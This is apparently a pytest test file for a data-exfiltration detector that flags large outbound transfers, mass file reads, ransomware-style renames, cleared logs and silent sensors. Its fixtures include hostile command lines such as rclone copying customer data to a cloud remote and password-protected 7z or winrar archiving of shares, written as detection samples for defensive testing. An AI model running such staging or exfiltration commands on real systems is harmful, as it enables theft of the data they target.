"""What `watch logs` takes for a theft, and what it does not."""

import random
from datetime import UTC, datetime

import pyarrow as pa
import pytest

from purloined.messages import LANGUAGES, say, tongue
from purloined.tables import EVENTS, arrow_schema
from purloined.watch import sketches
from purloined.watch.detecting import Detector, Known
from purloined.watch.minutes import Inside, Minute, is_inside, minutes

DAY = 86400
MONDAY = int(datetime(2026, 3, 2, tzinfo=UTC).timestamp())
GB = 10**9
BACKUP = "198.51.100.7"


def at(day: float) -> int:
    return int(MONDAY + day * DAY) // 60 * 60


def flow(day: float, peer: str, sent: float, device: str = "10.0.5.20", received: float = 0, **more) -> Minute:
    minute = at(day)
    more = {"kind": "out", "first": 7, "last": 9, "begins": float(minute), "ends": minute + 1.0} | more
    return Minute(minute, "edge", device, "", peer, "", sent=int(sent), received=int(received), **more)


def files(day: float, names: range, kind: str = "read", account: str = "tanaka", folders: int = 12) -> Minute:
    minute = at(day)
    marks = tuple(sorted(random.Random(name).getrandbits(63) for name in names)[: sketches.MARKS])
    places = tuple(("parts", f"customers/{number}") for number in range(folders))
    return Minute(
        minute, "audit", "fs01", account, "10.0.5.20", "", kind, len(names), len(names), folders, first=1,
        last=len(names),
        begins=float(minute), ends=minute + 30.0, names=("/Customers/a.step",), file_marks=marks,
        folder_marks=tuple(range(folders)), places=places,
    )  # fmt: skip


def started(day: float, line: str, process: str, account: str = "svc-x") -> Minute:
    minute = at(day)
    return Minute(
        minute,
        "starts",
        "srv1",
        account,
        "",
        process,
        "exec",
        first=3,
        last=3,
        begins=minute,
        ends=minute,
        names=(line,),
    )


def fed(detector: Detector, rows: list[Minute]) -> list[dict]:
    return [alert for row in rows for alert in detector.feed([row])]


def ordinary(days: int) -> list[Minute]:
    """Browsing, a call, a nightly backup, some files opened."""
    rows = []
    for day in range(days):
        rows += [flow(day + 0.4, f"192.0.2.{n}", 3e6, received=9e7) for n in range(1, 6)]
        rows += [flow(day + 0.5, "203.0.113.40", 8e8, received=9e8), flow(day + 0.9, BACKUP, 40 * GB, "10.0.5.10")]
        rows += [files(day + 0.45, range(day * 7, day * 7 + 12), folders=3)]
    return rows


def test_where_nothing_happens_nothing_is_said():
    detector = Detector(Known(frozenset({BACKUP})))
    assert fed(detector, []) == []
    assert list(detector.quiet(MONDAY)) == []
    assert fed(detector, ordinary(60)) == []


def test_a_burst_to_a_new_place_is_one_alert_that_is_brought_up_to_date():
    detector = Detector(Known(frozenset({BACKUP})))
    fed(detector, ordinary(30))
    said = fed(detector, [flow(30 + step / 400, "203.0.113.99", GB / 2) for step in range(100)])
    assert [alert["state"] for alert in said] == ["new"] + ["updated"] * (len(said) - 1)
    assert len({alert["id"] for alert in said}) == 1
    assert len(said) < 10
    first = said[0]
    assert (first["kind"], first["devices"], first["peers"]) == ("sending", ["10.0.5.20"], ["203.0.113.99"])
    assert 4.5 * GB < first["figures"]["bytes"] < 6 * GB
    assert first["records"] == [{"sensor": "edge", "first": 7, "last": 9}]


def test_a_leak_spread_over_five_days_is_found_by_its_sum():
    detector = Detector(Known(frozenset({BACKUP})))
    fed(detector, ordinary(30))
    said = fed(detector, [flow(30 + hour / 24, "203.0.113.99", 9 * GB / 110) for hour in range(110)])
    assert {alert["kind"] for alert in said} == {"sending"}


def test_as_many_bytes_that_come_back_are_a_call_and_no_theft():
    detector = Detector()
    fed(detector, ordinary(30))
    assert fed(detector, [flow(30.5, "203.0.113.98", 30 * GB, received=31 * GB)]) == []
    assert fed(detector, [flow(30.6, "203.0.113.98", 30 * GB)])  # the same without


def test_a_vouched_backup_is_silent_until_it_is_ten_times_its_usual():
    detector = Detector(Known(frozenset({BACKUP})))
    fed(detector, ordinary(30))
    assert fed(detector, [flow(30.9, BACKUP, 200 * GB, "10.0.5.10")]) == []
    said = fed(detector, [flow(31.9, BACKUP, 401 * GB, "10.0.5.10")])
    assert [alert["says"] for alert in said] == ["vouched"]


def test_while_it_learns_only_a_high_floor_counts():
    assert fed(Detector(), [flow(1, "203.0.113.99", 15 * GB)]) == []
    assert fed(Detector(), [flow(1, "203.0.113.99", 21 * GB)])[0]["says"] == "learning"


def test_where_little_is_held_floors_are_lower():
    assert fed(Detector(Known(held=10 * GB)), [flow(1, "203.0.113.99", GB)])


def test_a_second_theft_in_the_shadow_of_the_first_is_told():
    detector = Detector()
    fed(detector, ordinary(30))
    fed(detector, [flow(30.1, "203.0.113.99", 9 * GB)])
    said = fed(detector, [flow(30.2, "198.18.0.1", 6 * GB)])
    assert said
    assert said[0]["peers"] == ["203.0.113.99", "198.18.0.1"]


def test_what_many_send_to_one_service_does_not_swallow_another_theft():
    detector = Detector()
    fed(detector, ordinary(30))
    for number in range(40):
        fed(detector, [flow(30.1 + number / 1000, "203.0.113.99", 2 * GB, f"10.0.6.{number}")])
    said = fed(detector, [flow(30.2, "198.18.0.1", 6 * GB, "10.0.6.3")])
    assert any("198.18.0.1" in alert["peers"] for alert in said)


def test_reading_a_hundred_files_of_many_folders_is_a_burst_and_the_same_file_again_is_not():
    assert [alert["kind"] for alert in fed(Detector(), [files(1, range(120))])] == ["reading"]
    assert fed(Detector(), [files(1 + step / 1440, range(60)) for step in range(19)]) == []
    one_folder = [files(1, range(120), folders=1)]
    assert fed(Detector(), one_folder) == []


def test_who_reads_as_much_every_night_is_told_once():
    detector = Detector()
    said = fed(detector, [files(day, range(400), account="svc-index") for day in range(40)])
    assert [alert["state"] for alert in said] == ["new"]


def test_files_that_get_another_ending_in_masses_are_encryption():
    said = fed(Detector(), [files(1, range(40), kind="reending")])
    assert [alert["kind"] for alert in said] == ["encryption"]
    assert said[0]["places"][0] == {"share": "parts", "folder": "customers/0"}


@pytest.mark.parametrize(
    ("line", "process", "kind"),
    [
        ("rclone copy D:/Customers mega:x --transfers 8", "rclone", "tool"),
        (r"C:\Temp\7z.exe a -pSecret -mhe=on C:\Temp\x.7z D:\Customers", "7z.exe", "staging"),
        (r"winrar.exe a -v5g -m0 C:\x.rar \\fs01\C$\Users", "winrar.exe", "staging"),
        ("tar cf nightly.tar .", "tar", None),
        ("ls -l", "ls", None),
        ("rclone" + " \x00\ud800'\"" * 500, "rclone", "tool"),
    ],
)
def test_programs_that_pack_in_secret_or_send_are_told_once(line, process, kind):
    detector = Detector()
    said = fed(detector, [started(day, line, process) for day in range(3)])
    assert [alert["kind"] for alert in said] == ([kind] if kind else [])


def test_a_vouched_account_may_start_what_it_likes():
    detector = Detector(Known(frozenset({"svc-x"})))
    assert fed(detector, [started(1, "rclone copy /srv off:in", "rclone")]) == []


def test_archives_that_grow_beyond_what_is_usual_are_staging():
    row = files(1, range(3), kind="archive")._replace(received=2 * GB)
    assert [alert["says"] for alert in fed(Detector(), [row])] == ["archives"]


def test_a_sensor_silent_longer_than_its_own_rhythm_is_an_alert():
    detector = Detector()
    fed(detector, [flow(minute * 10 / 1440, "192.0.2.1", 1) for minute in range(200)])
    last = at(199 * 10 / 1440)
    assert list(detector.quiet(last + 20 * 60)) == []
    assert [alert["says"] for alert in detector.quiet(last + 50 * 60)] == ["silent"]
    assert list(detector.quiet(last + 51 * 60)) == []  # told already


def test_a_log_that_was_cleared_is_an_alert_at_once_and_a_restart_is_none():
    def lost(day, said):
        return flow(day, "", 0)._replace(kind="lost", names=(said,))

    assert [alert["says"] for alert in fed(Detector(), [lost(1, "clear 1102")])] == ["cleared"]
    detector = Detector()
    assert fed(detector, [lost(1, "stop"), flow(1.001, "192.0.2.1", 1)]) == []
    assert list(detector.quiet(at(1.01))) == []
    detector = Detector()
    assert fed(detector, [lost(1, "stop")]) == []
    assert [alert["says"] for alert in detector.quiet(at(1.01))] == ["stopped"]


def test_a_flood_of_alerts_comes_as_one_that_counts_them():
    detector = Detector()
    said = fed(detector, [files(1, range(120), account=f"user{number}") for number in range(40)])
    new = [alert for alert in said if alert["state"] == "new"]
    assert len(new) == 6
    assert new[-1]["says"] == "flood"


def a_bad_month() -> list[Minute]:
    rows = ordinary(25)
    rows += [flow(20 + hour / 24, "203.0.113.99", GB / 4) for hour in range(60)]
    rows += [files(20.3, range(150)), files(21.5, range(80), kind="reending", account="adm")]
    rows += [started(20.2, "rclone copy /srv/parts x:in", "rclone")]
    return sorted(rows)


def test_the_order_inside_a_minute_does_not_matter():
    rows = a_bad_month()
    by_minute: dict[int, list[Minute]] = {}
    for row in rows:
        by_minute.setdefault(row.minute, []).append(row)

    def told(shuffled: random.Random | None) -> list[dict]:
        detector, said = Detector(), []
        for batch in by_minute.values():
            mixed = shuffled.sample(batch, len(batch)) if shuffled else batch
            said += detector.feed(mixed)
        return said

    expected = told(None)
    assert expected
    assert all(told(random.Random(seed)) == expected for seed in range(3))


def test_saved_and_loaded_at_any_point_it_says_the_same():
    rows = a_bad_month()
    expected = fed(Detector(), rows)
    assert expected
    for cut in random.Random(4).sample(range(len(rows)), 12):
        detector = Detector()
        said = fed(detector, rows[:cut])
        said += fed(Detector.from_state(detector.state()), rows[cut:])
        assert said == expected


def test_a_damaged_state_is_said_to_be_one():
    for state in (b"", b"rubbish", Detector().state()[:-9]):
        with pytest.raises(ValueError, match="state"):
            Detector.from_state(state)


def test_hostile_names_pass_through():
    odd = "x\u202e\0\n\ud800" * 50
    row = files(1, range(120), account=odd)._replace(device=odd, places=((odd, odd),), names=(odd,))
    detector = Detector()
    said = fed(detector, [row])
    assert said[0]["accounts"] == [odd]
    assert fed(Detector.from_state(detector.state()), [row]) == []


# Minutes -----------------------------------------------------------------------------------------------------


def table(*rows: dict) -> pa.Table:
    usual = {"source": "log", "record": 1, "time": datetime(2026, 3, 2, 9, 0, 5)}
    return pa.Table.from_pylist([usual | row for row in rows], arrow_schema(EVENTS))


def test_bytes_have_the_direction_that_the_device_sees():
    out = {"action": "flow", "src_endpoint": "10.0.0.5", "dst_endpoint": "203.0.113.9", "bytes_out": 70, "bytes_in": 30}
    into = {
        "action": "flow",
        "src_endpoint": "203.0.113.9",
        "dst_endpoint": "10.0.0.5",
        "bytes_out": 70,
        "bytes_in": 30,
    }
    within = {"action": "flow", "src_endpoint": "10.0.0.5", "dst_endpoint": "10.0.0.6", "bytes_out": 70, "bytes_in": 30}
    found = {(row.device, row.kind): (row.peer, row.sent, row.received) for row in minutes(table(out, into, within))}
    assert found == {
        ("10.0.0.5", "out"): ("203.0.113.9", 70, 30),
        ("10.0.0.5", "answered"): ("203.0.113.9", 30, 70),
        ("10.0.0.5", "within"): ("10.0.0.6", 70, 30),
        ("10.0.0.6", "within"): ("10.0.0.5", 30, 70),
    }


def test_what_case_toml_calls_internal_is_inside():
    inside = Inside.of({"fs01"}, ["198.51.100.0/24", "orrin.example"])
    assert is_inside("fs01", inside)
    assert is_inside("198.51.100.3", inside)
    assert is_inside("a.orrin.example", inside)
    assert not is_inside("203.0.113.1", inside)
    assert not is_inside("notorrin.example", inside)


def test_different_files_are_counted_once_in_whatever_parts_they_come():
    def read(name: int, record: int) -> dict:
        return {
            "action": "read",
            "record": record,
            "host": "fs01",
            "actor_user": "t",
            "folder_key": 5,
            "name_key": name,
        }

    whole = minutes(table(*(read(name % 10, name) for name in range(40))))
    parts = [
        row for start in range(0, 40, 8) for row in minutes(table(*(read(n % 10, n) for n in range(start, start + 8))))
    ]
    assert [(row.files, row.folders, row.count, row.first, row.last) for row in whole] == [(10, 1, 40, 0, 39)]
    marks = ()
    for row in parts:
        marks = sketches.united(marks, row.file_marks)
    assert marks == tuple(sorted(whole[0].file_marks))


def test_a_rename_to_another_ending_is_told_from_one_that_keeps_it():
    def renamed(new: str) -> dict:
        return {"action": "rename", "path": "/a/b.docx", "name_key": 1, "extension": "docx", "new_path": new}

    kinds = [minutes(table(renamed(new)))[0].kind for new in ("/a/b.docx.lckd", "/a/c.docx", "/a/c.DOCX")]
    assert kinds == ["reending", "rename", "rename"]


def test_many_different_ones_are_estimated_within_a_quarter():
    rng = random.Random(1)
    marks = ()
    for _ in range(200):
        marks = sketches.united(marks, tuple(rng.getrandbits(64) - 2**63 for _ in range(50)))
    assert 7_500 < sketches.different(marks) < 12_500


def test_a_quantile_is_right_to_a_tenth_and_older_days_count_less():
    usual = sketches.Usual(30)
    for day in range(100):
        usual.add(1000 if day < 50 else 10, day)
    assert 9 <= usual.quantile(0.5) <= 10
    assert 900 <= usual.quantile(0.99) <= 1000


def test_every_sentence_that_a_detector_may_say_stands_in_both_languages():
    said = [
        alert
        for rows in (a_bad_month(), [started(1, "rclone copy /a x:b", "rclone")])
        for alert in fed(Detector(), rows)
    ]
    for language in LANGUAGES:
        for alert in said:
            text = say(tongue(language), f"watch.why.{alert['says']}", **alert["figures"])
            assert "{" not in text


def test_an_archive_that_is_written_for_long_is_one_file():
    """Not as many as there are batches in which it grows."""
    parts = [files(1, range(1), kind="archive")._replace(begins=second, ends=second) for second in range(100)]
    assert fed(Detector(), parts) == []
    others = [files(1, range(number, number + 1), kind="archive") for number in range(20)]
    assert [alert["says"] for alert in fed(Detector(), others)][:1] == ["archives"]
